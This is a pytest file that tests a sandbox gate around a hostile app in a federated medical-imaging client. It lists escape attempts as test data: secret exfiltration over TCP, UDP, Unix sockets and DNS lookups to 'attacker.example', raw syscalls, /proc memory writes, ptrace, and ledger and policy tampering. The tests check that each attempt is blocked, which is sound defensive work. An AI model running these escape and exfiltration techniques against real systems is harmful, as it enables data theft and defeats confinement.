"""A hostile app that IT approved by mistake: it reads every scan, and gets no undeclared byte out.

The gate asks it as `sst site start` does. What it could hide in the low digits of declared weights is not covered
(docs/threat-model.md).
"""

import os
import shutil
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
from flwr.app import Context, Message, RecordDict

import client.app
from approving import ATLAS, approve, open_policy, toy
from client.gate import confine, ledger
from client.gate.confined import Confined
from server.messages import TYPES, decode_reply, encode_request
from simulation.engines.inprocess import identity
from sst_models.wire.exchange import PhaseRequest, SiteReply

ROOT = Path(__file__).resolve().parents[3]
SECRET = "DoeJane-1961"

pytestmark = pytest.mark.skipif(bool(confine.missing()), reason="this system cannot confine an app")

HONEST = """
import os, sys
import numpy as np

def main(reply_to):
    from client import pipe
    from sst_models.wire.exchange import SiteReply
    request, site = pipe.read_request(sys.stdin.buffer.read())
    reply = SiteReply(request.site, request.phase, request.round, 9, {"T": dict(request.arrays["T"])})
    secret = "%s"
    parent = os.getppid()
    gate, home = %r, %r
    port = %d
    try:
        reply = attack(reply, secret, parent, gate, home, port, reply_to, site) or reply
    except Exception as error:
        print(type(error).__name__, error)
    with open(reply_to, "wb") as file:
        file.write(pipe.write_reply(reply))
"""

WAYS = {
    "tcp": """
import socket
with socket.create_connection(("127.0.0.1", port), timeout=2) as peer:
    peer.sendall(secret.encode())
""",
    "udp, as a question to a name server": """
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
    peer.sendto(secret.encode(), ("127.0.0.1", port))
""",
    "names": """
import socket
socket.getaddrinfo(secret + ".attacker.example", 80)
""",
    "a socket in the file system": """
import socket
with socket.socket(socket.AF_UNIX) as peer:
    peer.connect(home + "/listener")
    peer.sendall(secret.encode())
""",
    "calls that make sockets without the call": """
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
assert libc.syscall(425, 8, ctypes.create_string_buffer(256)) >= 0, ctypes.get_errno()
open(site.state / "io_uring", "w").write("worked")
""",
    "the second interface of the processor": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
assert libc.syscall(0x40000000 + 41, 2, 1, 0) >= 0, ctypes.get_errno()
open(site.state / "x32", "w").write("worked")
""",
    "a file among the gate's replies": """
from pathlib import Path
for folder in (gate, gate + "/runs/run/replies", gate + "/approved"):
    try:
        Path(folder, "left.safetensors").write_text(secret)
    except OSError as error:
        print(error)
""",
    "the policy": """
open(home + "/policy.toml", "w").write("most_bytes = 1_000_000_000")
""",
    "the ledger": """
open(gate + "/ledger.jsonl", "w").write("")
""",
    "its own code": """
open(__file__, "a").write("# " + secret)
""",
    "a link into the gate's folder": """
os.symlink(gate, site.state / "gate-link")
open(site.state / "gate-link" / "left", "w").write(secret)
""",
    "the gate's memory": """
with open("/proc/%d/mem" % parent, "r+b", buffering=0) as memory:
    memory.seek(0x400000)
open(site.state / "memory", "w").write("worked")
""",
    "the gate's open files": """
for name in os.listdir("/proc/%d/fd" % parent):
    os.open("/proc/%d/fd/" % parent + name, os.O_RDWR)
open(site.state / "files", "w").write("worked")
""",
    "a debugger": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
assert libc.ptrace(16, parent, 0, 0) == 0, ctypes.get_errno()
open(site.state / "debugger", "w").write("worked")
""",
    "a signal": """
import signal
os.kill(parent, signal.SIGKILL)
""",
    "a part that is not declared": """
return replace(reply, arrays={**reply.arrays, "scan": {"x": np.zeros((8, 8), np.float32)}})
""",
    "a volume under a declared name": """
return replace(reply, arrays={"T": {name: np.zeros((32, 32, 32), np.float32) for name in reply.arrays["T"]}})
""",
    "a word as an error": """
return replace(reply, error=secret)
""",
    "a word as a figure": """
return replace(reply, metrics={secret: 1.0})
""",
    "a word as a value": """
return replace(reply, settings={"atlas": secret})
""",
    "a word as the site's name, or as a number": """
return replace(reply, site=secret, count=secret)
""",
    "an answer without end": """
with open(reply_to, "wb", closefd=False) as file:
    for _ in range(80):
        file.write(b"x" * 1_000_000)
""",
    "no form at all": """
with open(reply_to, "wb") as file:
    file.write(secret.encode() * 1000)
os._exit(0)
""",
    "a process that stays": """
if os.fork() == 0:
    import time
    time.sleep(30)
    os._exit(0)
""",
    "a program of its own": """
import subprocess, sys
code = "import socket; socket.create_connection(('127.0.0.1', %d))" % port
subprocess.run([sys.executable, "-c", code], check=True)
open(site.state / "program", "w").write("worked")
""",
}


class Listener:
    """Somebody on this machine who hears whatever gets out: TCP, UDP and a socket in a folder."""

    def __init__(self, folder: Path) -> None:
        """Listen."""
        self.heard: list[bytes] = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._tcp.getsockname()[1])
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))
        self._near = socket.socket(socket.AF_UNIX)
        here = os.getcwd()
        os.chdir(folder)  # the path of such a socket is at most 107 bytes long
        self._near.bind("listener")
        os.chdir(here)
        self._near.listen()
        for take in (self._accept, self._receive, self._accept_near):
            threading.Thread(target=take, daemon=True).start()

    def _accept(self) -> None:
        while True:
            with self._tcp.accept()[0]:
                self.heard.append(b"tcp")

    def _accept_near(self) -> None:
        while True:
            with self._near.accept()[0]:
                self.heard.append(b"near")

    def _receive(self) -> None:
        while True:
            self.heard.append(self._udp.recv(100))


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A site's folder with an approved run, a ledger and a policy."""
    approve(tmp_path, EXPERIMENT, begins={"T": BEGIN})
    open_policy(tmp_path)
    (tmp_path / "state").mkdir()
    (tmp_path / "scans").mkdir()
    return tmp_path


@pytest.fixture
def listener(home: Path) -> Iterator[Listener]:
    """Somebody who listens."""
    yield Listener(home)


EXPERIMENT, BEGIN = toy(), {"w": np.ones(3, np.float32)}


def app(home: Path, attack: str, port: int = 1) -> Path:
    """An app that does what the gate asks for, and tries an attack before it."""
    folder = home / "app"
    for name in ("client", "configs", "sst_models"):
        shutil.copytree(ROOT / name, folder / name, ignore=shutil.ignore_patterns("__pycache__"))
    lines = "".join(f"    {line}\n" for line in attack.strip().splitlines() or ["pass"])
    text = f"def attack(reply, secret, parent, gate, home, port, reply_to, site):\n    import os, sys\n{lines}"
    honest = HONEST % (SECRET, str(home / "gate"), str(home), port)
    (folder / "client" / "inside.py").write_text(honest + "\n\n" + text)
    return folder


def ask(home: Path, folder: Path, confined: bool = True, scans: tuple[str, ...] = ()) -> SiteReply:
    """Send an honest request through the gate to the app, which may read scans as at the phase join."""
    dirs = {"data-path": str(home / "scans"), "state-dir": str(home / "state"), "gate-dir": str(home / "gate")}
    config = {"site-name": "one", **dirs, "policy": str(home / "policy.toml")}
    words = ("run", "register", 1, "one", EXPERIMENT.to_json())
    request = PhaseRequest(*words, {"T": BEGIN}, {"atlas": ATLAS})
    with identity():
        message = Message(encode_request(request, {}), 2, TYPES["register"])
        reply = client.app.respond(message, Context(1, 2, config, RecordDict(), {}), Confined(folder, scans, confined))
    return decode_reply(reply.content, request)


def files(folder: Path) -> dict[str, bytes]:
    """All files below a folder, but for logs."""
    paths = [path for path in folder.rglob("*") if path.is_file() and path.suffix not in (".log", ".jsonl")]
    return {str(path.relative_to(folder)): path.read_bytes() for path in paths}


def test_an_honest_app_is_answered_through_the_gate(home: Path) -> None:
    """What it declares leaves, and is in the ledger."""
    reply = ask(home, app(home, ""))
    assert (reply.error, reply.count) == ("", 9)
    np.testing.assert_array_equal(reply.arrays["T"]["w"], BEGIN["w"])
    assert ledger.verify(home / "gate" / ledger.NAME) == 1


@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS)
def test_no_undeclared_byte_gets_out(way: str, home: Path, listener: Listener) -> None:
    """Whatever it tries: nothing is heard, the gate's files stay as they are, and the reply is what is declared."""
    folder = app(home, way, listener.port)
    before, code = files(home / "gate"), files(folder)
    reply = ask(home, folder)
    assert listener.heard == []
    assert not any((home / "state" / name).exists() for name in ("io_uring", "x32", "memory", "files", "debugger"))
    assert not (home / "state" / "program").exists()
    assert files(folder) == code
    after = files(home / "gate")
    assert {name: after[name] for name in before} == before
    assert not any(SECRET.encode() in content for content in after.values())
    assert (home / "policy.toml").read_text() == open_policy(home / "again").read_text()
    assert SECRET not in repr(reply)
    if reply.error:
        assert reply == SiteReply("one", "register", 1, 0, error=reply.error)
        assert reply.error in ("internal", "release", "data")
    else:
        assert set(reply.arrays) == {"T"} and ledger.verify(home / "gate" / ledger.NAME) == 1


@pytest.mark.parametrize("way", ["tcp", "udp, as a question to a name server", "a socket in the file system"])
def test_an_app_that_is_not_confined_gets_out(way: str, home: Path, listener: Listener) -> None:
    """The ways above are ways: with sandbox = "off" somebody hears of it."""
    ask(home, app(home, WAYS[way], listener.port), confined=False)
    assert len(listener.heard) == 1


def test_what_the_app_prints_stays_in_the_gates_log(home: Path) -> None:
    """The hub gets a code; the text, with whatever names are in it, is the site's."""
    reply = ask(home, app(home, f"print('{SECRET}'); os._exit(3)"))
    assert reply == SiteReply("one", "register", 1, 0, error="internal")
    assert SECRET in (home / "gate" / "site.log").read_text()


def test_the_filter_refuses_each_call_on_both_processors() -> None:
    """Run by hand: each denied number ends at EPERM, another processor's calls at the end of the process."""
    for machine, (number, column) in confine.ARCHITECTURES.items():
        program = confine._filter(machine)
        assert run_filter(program, number, 0) == 0x7FFF0000
        assert run_filter(program, number + 1, 0) == 0x80000000
        for numbers in confine.DENIED.values():
            assert run_filter(program, number, numbers[column]) == 0x00050001
    assert run_filter(confine._filter("x86_64"), confine.ARCHITECTURES["x86_64"][0], 0x40000001) == 0x00050001


def run_filter(program: bytes, machine: int, call: int) -> int:
    """Do what the kernel does with a filter: give its verdict on a call."""
    import struct

    lines = [struct.unpack("HBBI", program[at : at + 8]) for at in range(0, len(program), 8)]
    place, value = 0, 0
    while True:
        kind, true, false, number = lines[place]
        place += 1
        if kind == 0x20:
            value = {0: call, 4: machine}[number]
        elif kind == 0x06:
            return int(number)
        else:
            place += true if (value == number if kind == 0x15 else value >= number) else false


def test_python_and_its_pools_work_when_confined(home: Path) -> None:
    """Preparing scans uses torch, SimpleITK and a pool of processes."""
    attack = """
import multiprocessing, torch, SimpleITK
from concurrent.futures import ProcessPoolExecutor
with ProcessPoolExecutor(2, mp_context=multiprocessing.get_context("spawn")) as pool:
    assert list(pool.map(abs, [-1, -2])) == [1, 2]
print("sum", float(torch.ones(9).sum()))
open(site.state / "worked", "w").write("yes")
"""
    assert ask(home, app(home, attack)).error == ""
    story = (home / "gate" / "site.log").read_text() if (home / "gate" / "site.log").exists() else ""
    assert (home / "state" / "worked").exists(), story


def test_dicom_is_converted_when_confined(home: Path) -> None:
    """A site whose scans are DICOM: the converter is a program of its own, and writes into a folder that goes away."""
    pytest.importorskip("pydicom")
    pytest.importorskip("dcm2niix")
    from study import write_study

    write_study(home / "scans")
    attack = """
import traceback, nibabel
from pathlib import Path
from client.dicom.convert import converted
from client.layouts import find_scans
try:
    (scan,) = find_scans([Path(home, "scans")])
    with converted(scan) as found:
        told = str(nibabel.load(found.image).shape)
except Exception:
    told = traceback.format_exc()
open(site.state / "told", "w").write(told)
"""
    assert ask(home, app(home, attack), scans=(str(home / "scans"),)).error == ""
    assert (home / "state" / "told").read_text() == "(50, 50, 50)"
    assert not [name for name, content in files(home).items() if b"JANE" in content and not name.startswith("scans/")]


def test_the_environment_holds_nothing_of_the_gates(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Tokens and addresses of Flower's processes stay with the gate."""
    monkeypatch.setenv("FLWR_TOKEN", SECRET)
    ask(home, app(home, "open(site.state / 'seen.json', 'w').write(repr(dict(os.environ)) + repr(sys.argv))"))
    assert SECRET not in (home / "state" / "seen.json").read_text()
